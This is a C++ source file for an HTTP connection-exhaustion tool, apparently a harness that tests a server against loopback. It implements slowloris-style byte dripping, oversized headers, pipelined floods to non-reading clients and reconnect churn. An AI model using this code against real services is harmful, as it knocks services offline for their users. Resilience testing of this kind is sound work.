// Each client is a small state machine over a non-blocking socket; a client that is thrown out comes back.
#include "attacker.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>

namespace attack {
namespace {

using Clock = std::chrono::steady_clock;

const std::string request = "GET /health HTTP/1.1\r\nHost: victim\r\n\r\n";
const std::string lastRequest = "GET /health HTTP/1.1\r\nHost: victim\r\nConnection: close\r\n\r\n";
const std::string slowHead = "GET /health HTTP/1.1\r\nHost: victim\r\nX-Slow: " + std::string(4000, 's');
const std::string hugeHead = "GET /health HTTP/1.1\r\nHost: victim\r\nX-Huge: " + std::string(8000, 'h');

std::string pipeline() {
    std::string many;
    for (int i = 0; i < 100; ++i) many += request;
    return many;
}

struct Client {
    Kind kind = Kind::Idle;
    int fd = -1;
    std::size_t sent = 0;
};

class Attack {
  public:
    Attack(const Plan& plan, Progress& progress) : plan_(plan), progress_(progress), epoll_(::epoll_create1(0)) {
        for (int i = 0; i < plan.connections; ++i)
            clients_.push_back({plan.kinds[static_cast<std::size_t>(i) % plan.kinds.size()]});
    }

    [[noreturn]] void run() {
        for (;;) {
            reconnect();
            epoll_event events[512];
            const int count = ::epoll_wait(epoll_, events, 512, 5);
            for (int i = 0; i < count; ++i) serve(clients_[events[i].data.u32], events[i].events);
            drip();
        }
    }

  private:
    // Brings back whoever is gone: churning ones at once, the others at a bounded rate and each in its turn, so that
    // those who are thrown out at once leave room for those who stay.
    void reconnect() {
        const double elapsed = std::chrono::duration<double>(Clock::now() - began_).count();
        const auto allowed = static_cast<uint64_t>(elapsed * plan_.reconnectsPerSecond);
        for (std::size_t i = 0; i < clients_.size(); ++i, next_ = (next_ + 1) % clients_.size()) {
            Client& client = clients_[next_];
            if (client.fd >= 0) continue;
            if (client.kind != Kind::Churn) {
                if (slowlyMade_ >= allowed) return;
                ++slowlyMade_;
            }
            connect(client);
        }
    }

    void connect(Client& client) {
        client.fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (client.fd < 0) return;
        const int on = 1;
        const int small = 4096;
        ::setsockopt(client.fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
        if (client.kind == Kind::Deaf) ::setsockopt(client.fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
        sockaddr_in from{};
        from.sin_family = AF_INET;
        from.sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1 + static_cast<uint32_t>(made_++ % 8));
        ::bind(client.fd, reinterpret_cast<sockaddr*>(&from), sizeof from);
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(plan_.port);
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        static_cast<void>(::connect(client.fd, reinterpret_cast<sockaddr*>(&to), sizeof to));
        client.sent = 0;
        epoll_event event{};
        event.events = EPOLLIN | EPOLLOUT | EPOLLET;
        event.data.u32 = static_cast<uint32_t>(&client - clients_.data());
        ::epoll_ctl(epoll_, EPOLL_CTL_ADD, client.fd, &event);
        ++progress_.made;
        ++progress_.open;
    }

    void serve(Client& client, uint32_t events) {
        if (client.fd < 0) return;
        if ((events & (EPOLLERR | EPOLLHUP)) != 0) return leave(client);
        if ((events & EPOLLOUT) != 0) send(client);
        if (client.fd >= 0 && (events & EPOLLIN) != 0 && client.kind != Kind::Deaf) read(client);
    }

    void send(Client& client) {
        static const std::string many = pipeline();
        switch (client.kind) {
            case Kind::KeepAlive:
                return sendRest(client, request);
            case Kind::Churn:
                return sendRest(client, lastRequest);
            case Kind::Huge:
                return sendRest(client, hugeHead);
            case Kind::Deaf:
                while (::send(client.fd, many.data(), many.size(), MSG_NOSIGNAL) > 0) {
                }
                return;
            default:
                return;
        }
    }

    static void sendRest(Client& client, const std::string& text) {
        const ssize_t sent = ::send(client.fd, text.data() + client.sent, text.size() - client.sent, MSG_NOSIGNAL);
        if (sent > 0) client.sent += static_cast<std::size_t>(sent);
    }

    void read(Client& client) {
        char bytes[4096];
        ssize_t got = 0;
        while ((got = ::recv(client.fd, bytes, sizeof bytes, 0)) > 0) {
        }
        if (got == 0 || (errno != EAGAIN && errno != EINTR)) leave(client);
    }

    void leave(Client& client) {
        ::close(client.fd);
        client.fd = -1;
        --progress_.open;
    }

    // Slow clients send one byte a second, each at its own time within the second.
    void drip() {
        const double second = std::chrono::duration<double>(Clock::now() - began_).count();
        const auto due = static_cast<uint64_t>(second * static_cast<double>(clients_.size()));
        for (; dripped_ < due; ++dripped_) {
            Client& client = clients_[dripped_ % clients_.size()];
            const bool drips = client.fd >= 0 && client.kind == Kind::Slow && client.sent < slowHead.size();
            if (drips && ::send(client.fd, &slowHead[client.sent], 1, MSG_NOSIGNAL) == 1) ++client.sent;
        }
    }

    const Plan& plan_;
    Progress& progress_;
    const int epoll_;
    const Clock::time_point began_ = Clock::now();
    std::vector<Client> clients_;
    std::size_t next_ = 0;
    uint64_t made_ = 0;
    uint64_t slowlyMade_ = 0;
    uint64_t dripped_ = 0;
};

} // namespace

void run(const Plan& plan, Progress& progress) { Attack(plan, progress).run(); }

} // namespace attack
